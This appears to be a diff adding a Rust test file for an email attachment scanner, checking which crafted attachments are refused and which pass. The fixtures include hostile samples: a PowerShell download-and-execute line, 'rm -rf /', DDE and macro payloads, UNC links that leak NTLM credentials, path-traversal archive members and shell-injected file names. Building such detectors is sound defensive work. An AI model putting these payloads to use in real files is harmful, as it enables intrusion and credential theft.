@@ -1,0 +1,503 @@
+//! For every rule on content: what it is there for is refused, and what looks like it passes.
+
+use mailkeep_inspect::danger::RULES;
+use mailkeep_inspect::{Level, Verdict};
+
+use crate::build::{self, Entry};
+use crate::{attachment, refusing};
+
+/// A piece of content and the rule that must speak of it.
+struct Case {
+    rule: &'static str,
+    name: &'static str,
+    declared: &'static str,
+    octets: Vec<u8>,
+}
+
+fn case(
+    rule: &'static str,
+    name: &'static str,
+    declared: &'static str,
+    octets: impl Into<Vec<u8>>,
+) -> Case {
+    Case {
+        rule,
+        name,
+        declared,
+        octets: octets.into(),
+    }
+}
+
+const BINARY: &str = "application/octet-stream";
+const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR0000000000000";
+
+fn ooxml(parts: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut entries = vec![
+        Entry::new("[Content_Types].xml", b"<Types/>"),
+        Entry::new("_rels/.rels", b"<Relationships/>"),
+    ];
+    entries.extend(
+        parts
+            .iter()
+            .map(|(name, content)| Entry::new(name, content)),
+    );
+    build::zip(&entries)
+}
+
+fn macros(text: &str) -> Vec<u8> {
+    build::compound(&[("VBA/Module1", &build::module(text))])
+}
+
+fn relation(kind: &str, target: &str) -> Vec<u8> {
+    format!(
+        "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
+    )
+    .into_bytes()
+}
+
+fn calendar(lines: &str) -> Vec<u8> {
+    format!(
+        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n{lines}END:VEVENT\r\nEND:VCALENDAR\r\n"
+    )
+    .into_bytes()
+}
+
+/// A record of a workbook.
+fn record(number: u16, body: &[u8]) -> Vec<u8> {
+    let length = u16::try_from(body.len()).unwrap();
+    [&number.to_le_bytes()[..], &length.to_le_bytes(), body].concat()
+}
+
+/// A property of a message in Outlook's wrapping that has a number for a name.
+fn reminder(path: &str) -> Vec<u8> {
+    let mut property = 1_u32.to_le_bytes().to_vec();
+    property.extend([0x1e, 0, 0x1f, 0x85]);
+    property.extend([0; 16]);
+    property.extend(0_u32.to_le_bytes());
+    property.extend(0x851f_u32.to_le_bytes());
+    property.extend(1_u32.to_le_bytes());
+    property.extend(u32::try_from(path.len() + 1).unwrap().to_le_bytes());
+    property.extend(path.as_bytes());
+    property.resize(property.len() + 4 - path.len() % 4, 0);
+    build::tnef(&[(1, 0x0006_9003, &property)])
+}
+
+fn smuggled(content: &[u8]) -> Vec<u8> {
+    use base64::Engine;
+    let text = base64::engine::general_purpose::STANDARD.encode(content);
+    format!("<html><script>var file = '{text}'; save(atob(file));</script></html>").into_bytes()
+}
+
+fn refused_by_default() -> Vec<Case> {
+    let program = build::program();
+    let long_organizer = format!("ORGANIZER:mailto:{}@example.org\r\n", "a".repeat(2100));
+    let mut malformed = build::wrapped("a.txt", b"Hello.");
+    malformed[6 + 5..6 + 9].copy_from_slice(&0x7fff_ffff_u32.to_le_bytes());
+    let formats = [
+        record(0x809, &[0; 16]),
+        record(0x41e, b"\0\0\x14\0\0[>system('a')]0;0"),
+        record(0x0a, b""),
+    ]
+    .concat();
+    let sheet = [
+        record(0x809, &[0; 16]),
+        record(0x85, b"\0\0\0\0\0\x01\x04\0auto"),
+        record(0x0a, b""),
+    ]
+    .concat();
+    vec![
+        case("test-virus", "a.txt", "text/plain", build::test_virus()),
+        case("test-virus", "a.zip", "application/zip", build::zip(&[Entry::new("a.txt", &build::test_virus())])),
+        case("executable", "readme", BINARY, program.clone()),
+        case("executable", "a.zip", "application/zip", build::zip(&[Entry::new("readme", &program)])),
+        case("executable", "a.tar.gz", "application/gzip", build::gzip(&build::tar(&[("readme", &program, None)]))),
+        case("executable", "a.doc", "application/msword", build::compound(&[("Contents", &program)])),
+        case("executable", "a.rtf", "text/rtf", build::rich_text("Package", &build::package("a.txt", &program))),
+        case("executable", "a.pdf", "application/pdf", build::pdf("a.txt", &program, true)),
+        case("executable", "a.one", BINARY, build::onenote(&program)),
+        case("executable", "winmail.dat", "application/ms-tnef", build::wrapped("a.txt", &program)),
+        case("executable", "a.html", "text/html", smuggled(&program)),
+        case("executable", "a", BINARY, b"\x7fELF\x02\x01\x01\0".as_slice()),
+        case("executable", "a", BINARY, b"\xca\xfe\xba\xbe\0\0\0\x41".as_slice()),
+        case("executable", "a", BINARY, b"\xcf\xfa\xed\xfe\x07\0\0\x01".as_slice()),
+        case("embedded-executable", "a.png", "image/png", [PNG, &program].concat()),
+        case("script", "a", BINARY, "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"),
+        case("script", "a", BINARY, "@echo off\r\ndel a\r\n"),
+        case("script", "a", BINARY, "IEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n"),
+        case("encoded-script", "a.txt", "text/plain", "#@~^AAAAAA==abc^#~@"),
+        case("shortcut", "a", BINARY, b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice()),
+        case("shortcut", "a.url", BINARY, "[InternetShortcut]\r\nURL=file://203.0.113.1/share/a\r\n"),
+        case("shortcut", "a.url", BINARY, "[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\203.0.113.1\\a\\b.ico\r\n"),
+        case("shortcut", "a.url", BINARY, "[InternetShortcut]\r\nURL=http://example.org/a.exe\r\n"),
+        case("shortcut", "a.scf", BINARY, "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.1\\a\r\n"),
+        case("dangerous-name", "a.hta", BINARY, "hello"),
+        case("dangerous-name", "a.JS ", BINARY, "var a = 1;"),
+        case("dangerous-name", "a.zip", "application/zip", build::zip(&[Entry::new("a.js", b"var a = 1;")])),
+        case("dangerous-name", "a.rar", BINARY, build::rar4(&[("a.exe", b"packed")], 0x33, false)),
+        case("double-extension", "invoice.pdf.exe", BINARY, "x"),
+        case("hidden-extension", "invoice\u{202e}fdp.txt", BINARY, "x"),
+        case("hidden-extension", "invoice.pdf                        .com", BINARY, "x"),
+        case("type-mismatch", "a.wav", "audio/x-wav", program.clone()),
+        case("type-mismatch", "a.scr", "audio/x-midi", "x"),
+        case("type-mismatch", "invoice.pdf", "application/pdf", "#!/bin/sh\nrm -rf /\n"),
+        case("type-mismatch", "photo.jpg", BINARY, program.clone()),
+        case("member-escapes", "a.tar", BINARY, build::tar(&[("../../etc/cron.d/a", b"x", None)])),
+        case("member-escapes", "a.tar", BINARY, build::tar(&[("a", b"", Some("/etc")), ("a/passwd", b"x", None)])),
+        case("member-escapes", "a.rar", BINARY, build::rar5(&[("a", b"", Some("..\\..\\etc"))])),
+        case("member-shell", "a.tar", BINARY, build::tar(&[("`id`.pdf", b"x", None)])),
+        case("member-shell", "a$(id).pdf", "application/pdf", "%PDF-1.4"),
+        case(
+            "encrypted-program",
+            "a.zip",
+            "application/zip",
+            build::zip(&[Entry {
+                encrypted: true,
+                ..Entry::new("invoice.exe", b"secret")
+            }]),
+        ),
+        case("archive-ambiguous", "a.zip", "application/zip", build::zip(&[Entry { local: "b.txt", ..Entry::new("a.txt", b"x") }])),
+        case("virtual-disk", "a.vhdx", BINARY, b"vhdxfile\0\0".as_slice()),
+        case("office-macro-runs", "a.doc", "application/msword", macros("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n")),
+        case(
+            "office-macro-runs",
+            "a.docm",
+            BINARY,
+            ooxml(&[("word/vbaProject.bin", &macros("Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run a\r\nEnd Sub"))]),
+        ),
+        case("office-macro-hidden", "a.docx", BINARY, ooxml(&[("word/vbaProject.bin", &macros("Sub A()\r\nEnd Sub"))])),
+        case("office-macro-sheet", "a.xls", "application/vnd.ms-excel", build::compound(&[("Workbook", &sheet)])),
+        case("office-macro-sheet", "a.xlsm", BINARY, ooxml(&[("xl/macrosheets/sheet1.xml", b"<a/>")])),
+        case("office-object-external", "a.docx", BINARY, ooxml(&[("word/_rels/document.xml.rels", &relation("oleObject", "mhtml:http://a.example/b.html!x-usc:http://a.example/b.html"))])),
+        case("office-dde", "a.docx", BINARY, ooxml(&[("word/document.xml", b"<w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:instrText>AUTO c:\\a</w:instrText>")])),
+        case("office-dde", "a.csv", "text/csv", "a,b\r\n=cmd|'/C calc'!A0,2\r\n"),
+        case("office-code-format", "a.xls", "application/vnd.ms-excel", build::compound(&[("Workbook", &formats)])),
+        case("office-code-format", "a.xlsx", BINARY, ooxml(&[("xl/styles.xml", b"<numFmt formatCode=\"[&gt;system('a')]0\"/>")])),
+        case("rtf-object", "a.rtf", "text/rtf", build::rich_text("Equation.3", b"\x1c\0\0\0")),
+        case("html-smuggling", "a.html", "text/html", smuggled(&build::zip(&[Entry::new("a.txt", &[b'x'; 64])]))),
+        case("pdf-launch", "a.pdf", "application/pdf", "%PDF-1.4\n1 0 obj\n<</S/L#61unch/F(cmd)>>\nendobj\n"),
+        case("reminder-unc", "winmail.dat", "application/ms-tnef", reminder("\\\\203.0.113.1\\a\\b.wav")),
+        case("reminder-unc", "a.ics", "text/calendar", calendar("ATTACH:\\\\203.0.113.1\\a.wav\r\n")),
+        case("moniker-link", "a.html", "text/html", "<html><a href=\"file:///\\\\203.0.113.1\\test\\a.rtf!something\">a</a>"),
+        case("ntlm-leak", "a.html", "text/html", "<html><a href=\"search-ms:query=a&crumb=location:\\\\203.0.113.1\\a\">a</a>"),
+        case("tnef-malformed", "winmail.dat", "application/ms-tnef", malformed),
+        case("calendar-modprops", "a.ics", "text/calendar", calendar("X-MICROSOFT-CDO-MODPROPS:A\r\nX-MICROSOFT-CDO-MODPROPS:AA,BB\r\n")),
+        case("calendar-organizer", "a.ics", "text/calendar", calendar(&long_organizer)),
+        case("calendar-active", "a.ics", "text/calendar", calendar("X-ALT-DESC;FMTTYPE=text/html:<img src=x\r\n  onerror=alert(1)>\r\n")),
+    ]
+}
+
+fn refused_when_strict() -> Vec<Case> {
+    let many: Vec<(String, Vec<u8>)> = (0..30)
+        .map(|nth| (format!("site/{nth}.html"), b"<html>".to_vec()))
+        .collect();
+    let mut sources: Vec<Entry<'_>> = many
+        .iter()
+        .map(|(name, content)| Entry::new(name, content))
+        .collect();
+    sources.push(Entry::new("site/a.js", b"var a = 1;"));
+    let iso = crate::archives::fixture("joliet-rock.iso.gz");
+    vec![
+        case(
+            "unix-script",
+            "a.sh",
+            "text/x-sh",
+            "#!/bin/sh\necho hello\n",
+        ),
+        case(
+            "web-shortcut",
+            "a.url",
+            BINARY,
+            "[InternetShortcut]\r\nURL=https://example.org/page\r\nIconIndex=1\r\n",
+        ),
+        case("risky-name", "a.mdb", BINARY, "x"),
+        case(
+            "script-in-archive",
+            "site.zip",
+            "application/zip",
+            build::zip(&sources),
+        ),
+        case("type-differs", "a.jpg", "image/jpeg", "%PDF-1.4\n"),
+        case(
+            "member-absolute",
+            "a.tar",
+            BINARY,
+            build::tar(&[("/home/a", b"x", None)]),
+        ),
+        case(
+            "encrypted-archive",
+            "a.zip",
+            "application/zip",
+            crate::archives::fixture("encrypted.zip"),
+        ),
+        case(
+            "encrypted-archive",
+            "a.7z",
+            BINARY,
+            crate::archives::fixture("encrypted-names.7z"),
+        ),
+        case(
+            "encrypted-archive",
+            "a.docx",
+            BINARY,
+            build::compound(&[("EncryptedPackage", b"x")]),
+        ),
+        case(
+            "archive-damaged",
+            "a.gz",
+            BINARY,
+            build::gzip(b"Hello, hello, hello.")[..20].to_vec(),
+        ),
+        case(
+            "archive-not-unpacked",
+            "a.7z",
+            BINARY,
+            crate::archives::fixture("ppmd.7z"),
+        ),
+        case(
+            "polyglot",
+            "a.png",
+            "image/png",
+            [PNG, &build::zip(&[Entry::new("a.txt", b"x")])].concat(),
+        ),
+        case("disk-image", "a.iso.gz", BINARY, iso),
+        case(
+            "office-macro",
+            "a.xls",
+            BINARY,
+            macros("Sub Sum()\r\nRange(\"A1\") = 1\r\nEnd Sub\r\n"),
+        ),
+        case(
+            "office-template-external",
+            "a.docx",
+            BINARY,
+            ooxml(&[(
+                "word/_rels/settings.xml.rels",
+                &relation("attachedTemplate", "https://a.example/b.dotm"),
+            )]),
+        ),
+        case(
+            "html-attachment-script",
+            "a.html",
+            "text/html",
+            "<html><script>a()</script></html>",
+        ),
+        case(
+            "svg-script",
+            "a.svg",
+            "image/svg+xml",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>a()</script></svg>",
+        ),
+        case(
+            "pdf-script",
+            "a.pdf",
+            "application/pdf",
+            "%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n",
+        ),
+    ]
+}
+
+#[test]
+fn what_a_rule_is_there_for_is_refused_by_default() {
+    for case in refused_by_default() {
+        let rules = refusing(case.name, case.declared, &case.octets, Level::Default);
+        assert!(
+            rules.iter().any(|rule| rule == case.rule),
+            "{} in {}: {rules:?}",
+            case.rule,
+            case.name
+        );
+    }
+}
+
+#[test]
+fn what_honest_mail_has_is_noticed_by_default_and_refused_when_strict() {
+    for case in refused_when_strict() {
+        let rules = refusing(case.name, case.declared, &case.octets, Level::Default);
+        assert_eq!(
+            rules,
+            Vec::<String>::new(),
+            "{} in {}",
+            case.rule,
+            case.name
+        );
+        let rules = refusing(case.name, case.declared, &case.octets, Level::Strict);
+        assert!(
+            rules.iter().any(|rule| rule == case.rule),
+            "{} in {}: {rules:?}",
+            case.rule,
+            case.name
+        );
+    }
+}
+
+#[test]
+fn every_rule_has_a_case_or_a_test_of_its_own() {
+    // Two names need a message, and the limits are reached in `built.rs` and by readings.
+    let elsewhere = [
+        "names-disagree",
+        "limit-depth",
+        "limit-parts",
+        "limit-octets",
+        "limit-member-octets",
+        "limit-ratio",
+        "limit-readings",
+    ];
+    let cases: Vec<Case> = refused_by_default()
+        .into_iter()
+        .chain(refused_when_strict())
+        .collect();
+    for rule in RULES {
+        let covered =
+            cases.iter().any(|case| case.rule == rule.name) || elsewhere.contains(&rule.name);
+        assert!(covered, "{}", rule.name);
+    }
+    for case in cases {
+        assert!(
+            RULES.iter().any(|rule| rule.name == case.rule),
+            "{}",
+            case.rule
+        );
+    }
+}
+
+#[test]
+fn two_names_of_which_one_is_a_programs_are_refused() {
+    use mailkeep_inspect::{Content, Origin, Profile, danger, kind};
+    let content = Content {
+        octets: b"x".as_slice().into(),
+        names: vec!["photo.jpg".into(), "photo.exe".into()],
+        types: vec![BINARY.into()],
+        origin: Origin::Attachment,
+        place: "2".into(),
+    };
+    let reasons = danger::of_content(&content, kind::of(b"x"), &Profile::default());
+    assert!(
+        reasons
+            .iter()
+            .any(|reason| reason.rule == "names-disagree" && reason.verdict == Verdict::Refuse)
+    );
+}
+
+#[test]
+fn what_looks_like_a_danger_passes() {
+    let docx = ooxml(&[
+        (
+            "word/document.xml",
+            b"<w:t>The DDEAUTO field and cmd.exe</w:t>",
+        ),
+        (
+            "word/_rels/document.xml.rels",
+            &relation("hyperlink", "https://example.org/"),
+        ),
+        (
+            "word/_rels/settings.xml.rels",
+            &relation("attachedTemplate", "file:///C:\\Templates\\a.dotx"),
+        ),
+    ]);
+    let xlsx = ooxml(&[
+        (
+            "xl/styles.xml",
+            b"<numFmt formatCode=\"[Red][&gt;=100]0;[$-409]0\"/>",
+        ),
+        ("xl/workbook.xml", b"<a/>"),
+    ]);
+    let invitation = calendar(
+        "ORGANIZER;CN=A:mailto:a@example.org\r\nX-MICROSOFT-CDO-MODPROPS:A\r\nDESCRIPTION:Once upon = a time <b>on</b>\r\nX-MICROSOFT-CDO-BUSYSTATUS:BUSY\r\n",
+    );
+    let sources = build::tar(&[
+        ("a-1.0/configure", b"#!/bin/sh\n", None),
+        ("a-1.0/bin/link", b"", Some("../lib/a")),
+        ("a-1.0/setup.py", b"#!/usr/bin/env python\n", None),
+        ("a-1.0/README", b"Read me", None),
+    ]);
+    let quiet = "Sub Workbook_Open()\r\nRange(\"A1\").Value = Environ(\"username\")\r\nEnd Sub\r\n";
+    let honest: Vec<(&str, &str, Vec<u8>)> = vec![
+        (
+            "report.2026.11.pdf",
+            "application/pdf",
+            b"%PDF-1.7\n".to_vec(),
+        ),
+        ("a.tar.gz", "application/gzip", build::gzip(&sources)),
+        ("table.csv", "text/csv", b"a;b\r\n-1|'2';+3\r\n".to_vec()),
+        ("minutes.v1.2.docx", BINARY, docx),
+        ("table.xlsx", BINARY, xlsx),
+        ("invite.ics", "text/calendar", invitation),
+        (
+            "photo.jpg",
+            "image/jpeg",
+            b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(),
+        ),
+        (
+            "smime.p7s",
+            "application/pkcs7-signature",
+            b"\x30\x82\x10\0".to_vec(),
+        ),
+        (
+            "winmail.dat",
+            "application/ms-tnef",
+            build::wrapped("minutes.txt", b"Hello."),
+        ),
+        ("table.xls", "application/vnd.ms-excel", macros(quiet)),
+        (
+            "example.com",
+            "message/rfc822",
+            b"From: a@example.org\r\nSubject: b\r\n\r\nHello.\r\n".to_vec(),
+        ),
+        (
+            "R\u{e9}sum\u{e9}.doc",
+            "application/msword",
+            build::compound(&[("WordDocument", b"x")]),
+        ),
+        (
+            "notes.txt",
+            "text/plain",
+            b"MZ is how programs begin, and PK how zips do.\n".to_vec(),
+        ),
+        (
+            "page.html",
+            "text/html",
+            b"<html><a href=\"file://server/share/a.txt\">a</a><p>Hello!".to_vec(),
+        ),
+        ("key.txt", "text/plain", b"begin 644\nnothing\n".to_vec()),
+        (
+            "archive.zip",
+            "application/zip",
+            crate::archives::fixture("deflate.zip"),
+        ),
+        ("letter.rtf", "text/rtf", b"{\\rtf1 Hello}".to_vec()),
+        (
+            "form.pdf",
+            "application/pdf",
+            build::pdf("invoice.xml", b"<?xml version=\"1.0\"?><a/>", true),
+        ),
+        (
+            "empty.zip",
+            "application/zip",
+            b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
+        ),
+        (
+            "drawing.svg",
+            "image/svg+xml",
+            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>".to_vec(),
+        ),
+    ];
+    for (name, declared, octets) in honest {
+        assert_eq!(
+            refusing(name, declared, &octets, Level::Default),
+            Vec::<String>::new(),
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn a_sender_is_told_what_was_wrong_in_a_sentence() {
+    let zip = build::zip(&[Entry::new("a.exe", &build::program())]);
+    let reasons = attachment("invoice.zip", "application/zip", &zip, Level::Default);
+    let texts: Vec<_> = reasons.iter().map(|reason| reason.text.as_str()).collect();
+    assert!(
+        texts.contains(&"The file a.exe in the attachment invoice.zip is a Windows program."),
+        "{texts:?}"
+    );
+    assert_eq!(reasons[0].place, "2/invoice.zip/a.exe");
+}
